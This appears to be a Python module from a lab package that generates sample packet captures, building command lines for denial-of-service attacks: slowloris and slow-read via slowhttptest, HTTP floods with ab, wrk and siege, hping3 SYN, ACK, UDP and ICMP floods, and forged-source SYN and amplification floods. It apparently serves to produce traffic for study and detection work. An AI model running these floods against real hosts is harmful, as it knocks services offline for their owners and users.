"""Denial of service: slow connections, floods of requests, floods of packets."""

from __future__ import annotations

from sample_pcaps.lab.activities.commands import program
from sample_pcaps.lab.activities.kind import ANY, ICMP, TCP, UDP, Call, Touch
from sample_pcaps.lab.activities.making import Kinds, of_port

__all__ = ["DENIAL", "FORGED", "from_forged"]

DENIAL = Kinds("dos")
#: Forged senders: within the lab's range, of no network of the lab.
FORGED = "198.19.128.0/17"
_HTTP = of_port(80)
_WEB = ("web", "small-web")


def _slowhttptest(call: Call, mode: str, *more: str) -> list[str]:
    return [
        "slowhttptest", mode, "-u", f"http://{call.address}/", "-c", str(call.option("many", 150)),
        "-r", str(call.option("rate", 20)), "-l", str(int(call.seconds)), "-p", "3", *more,
    ]  # fmt: skip


@DENIAL.add(_HTTP, *_WEB, tool="slowhttptest -H", seconds=45)
def slow_headers(call: Call) -> list[str]:
    """Slowloris: a header line now and then."""
    return _slowhttptest(call, "-H", "-i", str(call.option("wait", 5)))


@DENIAL.add(_HTTP, *_WEB, tool="slowhttptest -B", seconds=45)
def slow_body(call: Call) -> list[str]:
    """A body that never ends (R-U-Dead-Yet)."""
    return _slowhttptest(call, "-B", "-i", str(call.option("wait", 5)), "-s", "8192")


@DENIAL.add(_HTTP, *_WEB, tool="slowhttptest -X", seconds=45)
def slow_read(call: Call) -> list[str]:
    """An answer that is read a few bytes at a time."""
    return [
        "slowhttptest", "-X", "-u", f"http://{call.address}/big.bin",
        "-c", str(call.option("many", 100)), "-r", "20", "-l", str(int(call.seconds)), "-p", "3",
        "-w", "512", "-y", "1024", "-n", "5", "-z", "32", "-k", "1",
    ]  # fmt: skip


@DENIAL.add(_HTTP, *_WEB, tool="slow POST", seconds=60)
def slow_post(call: Call) -> list[str]:
    """A body, a byte at a time, on many connections; a program of our own."""
    return program("slow_http", call.address, "body", call.option("many", 60),
                   call.option("wait", 3.0), int(call.seconds))  # fmt: skip


@DENIAL.add(_HTTP, *_WEB, tool="slowloris", seconds=60)
def slowloris(call: Call) -> list[str]:
    """Headers that never end; a program of our own."""
    return program("slow_http", call.address, "headers", call.option("many", 60),
                   call.option("wait", 4.0), int(call.seconds))  # fmt: skip


@DENIAL.add(_HTTP, *_WEB, tool="hulk-like", seconds=20)
def hulk(call: Call) -> list[str]:
    """A new connection and an address of its own for each request; `rate` a second."""
    return program("http_flood", call.address, call.option("rate", 60), int(call.seconds))


@DENIAL.add(_HTTP, *_WEB, tool="ab", seconds=20)
def flood_ab(call: Call) -> list[str]:
    """Apache's measuring tool."""
    return ["ab", "-q", "-n", str(call.option("requests", 1500)), "-c",
            str(call.option("many", 30)), f"http://{call.address}/page1.html"]  # fmt: skip


@DENIAL.add(_HTTP, *_WEB, tool="wrk", seconds=12)
def flood_wrk(call: Call) -> list[str]:
    """Few connections, as many small requests as they carry."""
    return ["wrk", "-t", "1", "-c", str(call.option("many", 40)), "-d",
            f"{call.option('for', 2)}s", f"http://{call.address}/health"]  # fmt: skip


@DENIAL.add(_HTTP, *_WEB, tool="siege", seconds=20)
def flood_siege(call: Call) -> list[str]:
    """Many users who hardly think."""
    return ["siege", "-q", "-c", str(call.option("many", 20)), "-d", "0.3", "-t",
            f"{call.option('for', 10)}S", f"http://{call.address}/page2.html"]  # fmt: skip


def _hping(call: Call, *arguments: str) -> list[str]:
    """hping3 at `rate` packets a second, `packets` in all."""
    wait = f"u{int(1_000_000 / call.option('rate', 200))}"
    return ["hping3", "-q", "-n", "-i", wait, "-c", str(call.option("packets", 1500)),
            *arguments, call.address]  # fmt: skip


@DENIAL.add(_HTTP, tool="hping3 SYN", seconds=20)
def flood_syn(call: Call) -> list[str]:
    """SYN segments from one host."""
    return _hping(call, "-S", "-p", "80")


@DENIAL.add(_HTTP, tool="hping3 ACK", seconds=20)
def flood_ack(call: Call) -> list[str]:
    """ACK segments of no connection."""
    return _hping(call, "-A", "-p", "80")


def _udp_and_answers(call: Call) -> list[Touch]:
    return [Touch(call.address, ANY, UDP), Touch(call.address, ANY, ICMP)]


@DENIAL.add(_udp_and_answers, tool="hping3 UDP", seconds=20)
def flood_udp(call: Call) -> list[str]:
    """UDP datagrams to one port."""
    return _hping(call, "--udp", "-p", str(call.option("port", 7777)), "-d", "400")


@DENIAL.add(lambda call: [Touch(call.address, ANY, ICMP)], tool="hping3 ICMP", seconds=20)
def flood_icmp(call: Call) -> list[str]:
    """Echo requests."""
    return _hping(call, "--icmp", "-d", "200")


def from_forged(address: str, *protocols: int, port: int | None = ANY) -> list[Touch]:
    """What forged senders send to an address, by protocol, and what it says to them."""
    return [Touch(address, port, number, src=FORGED) for number in protocols]


@DENIAL.add(
    lambda call: from_forged(call.address, TCP, port=80),
    tool="forged SYN flood",
    seconds=30,
    family="ddos",
)
def flood_forged(call: Call) -> list[str]:
    """SYN segments from forged senders of the lab's own range."""
    return program("forge", "syn", call.address, FORGED, call.option("rate", 150),
                   call.option("packets", 1500))  # fmt: skip


@DENIAL.add(
    lambda call: from_forged(call.address, UDP, ICMP),
    tool="amplified answers",
    seconds=30,
    family="ddos",
)
def amplified(call: Call) -> list[str]:
    """Large answers of DNS and NTP servers that the target never asked (sender forged)."""
    return program("forge", "answers", call.address, FORGED, call.option("rate", 120),
                   call.option("packets", 1200))  # fmt: skip


@DENIAL.add(_HTTP, *_WEB, tool="distributed request flood", seconds=25, family="ddos")
def flood_together(call: Call) -> list[str]:
    """One of several hosts that ask too much together, each not much by itself."""
    return program("http_flood", call.address, call.option("rate", 12), int(call.seconds))


@DENIAL.add(_HTTP, tool="distributed SYN flood (hping3)", seconds=25, family="ddos")
def flood_syn_together(call: Call) -> list[str]:
    """One of several hosts that send SYN segments together."""
    return _hping(call, "-S", "-p", "80")
